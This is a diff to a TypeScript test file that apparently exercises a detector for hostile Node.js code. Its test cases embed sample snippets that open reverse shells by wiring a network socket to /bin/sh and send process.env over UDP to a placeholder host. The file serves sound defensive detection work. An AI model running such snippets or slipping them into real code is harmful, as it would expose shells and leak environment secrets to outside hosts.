@@ -233,6 +233,16 @@ const CASES: Record<string, Case[]> = {
       [net('connect', { target: `${HOST}:9001` }), proc('bash', { socketStdio: true })],
     ],
     [
+      'a socket handed to a shell as its stdio',
+      `const s = require('net').connect(4444, '${HOST}');\nrequire('child_process').spawn('/bin/sh', [], { stdio: [s, s, s] });`,
+      [proc('sh', { socketStdio: true })],
+    ],
+    [
+      'a datagram of the environment names its destination',
+      `const d = require('dgram').createSocket('udp4');\nd.send(JSON.stringify(process.env), 53, '${HOST}');`,
+      [net('send', { target: `${HOST}:53`, sends: ['environment'] })],
+    ],
+    [
       'a socket created first and connected later',
       `const n = require('net');\nconst c = new n.Socket();\nc.connect(4444, '${HOST}', () => {\n  const sh = require('child_process').spawn('/bin/sh', []);\n  c.pipe(sh.stdin);\n});`,
       [net('connect', { target: `${HOST}:4444`, line: 3 }), proc('sh', { socketStdio: true })],
